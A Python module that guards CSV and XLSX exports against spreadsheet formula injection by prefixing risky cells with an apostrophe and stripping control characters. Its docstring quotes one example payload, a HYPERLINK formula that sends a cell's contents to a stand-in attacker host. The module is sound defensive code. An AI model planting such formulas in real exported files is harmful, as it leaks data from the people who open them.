"""The one rule for text we write into a CSV or XLSX file that someone will open in a spreadsheet.

A cell starting with = + - @ (or a tab or carriage return, which Excel skips before looking for one of
those) is read as a formula: `=HYPERLINK("https://evil.example?"&A1)` typed into a contact's job title
would run on a colleague's machine. A leading apostrophe makes the spreadsheet show the text as text.
Every export (registry lists, subject access, engagement log, campaign results, weekly report, import
problem lists) goes through here, so the rule cannot drift between them."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Control characters the XLSX (XML 1.0) format cannot hold; openpyxl refuses a cell containing one, so a
# stray \x0b pasted into a name would otherwise stop the whole export.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def neutralise(value: Any) -> str:
    """The cell text, with a leading apostrophe when a spreadsheet would read it as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    text = str(value)
    if isinstance(value, (int, float, decimal.Decimal)):
        # A number we computed is not text someone typed: -3 stays a number a spreadsheet can add up.
        return text
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def xlsx_cell(value: Any) -> Any:
    """A value for an XLSX cell: numbers and dates keep their type; text is neutralised and made storable."""
    if isinstance(value, (int, float, decimal.Decimal, dt.date)) and not isinstance(value, bool):
        return value
    if value is None:
        return None
    if isinstance(value, bool):
        return neutralise(value)
    # Strip first: "\x01=SUM(A1)" must not lose its control character and become a formula.
    return neutralise(_NOT_IN_XML.sub("", str(value)))


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class NeutralisingWriter:
    """A csv.writer that neutralises every cell, for exports written row by row."""

    def __init__(self, stream: _Writable) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])
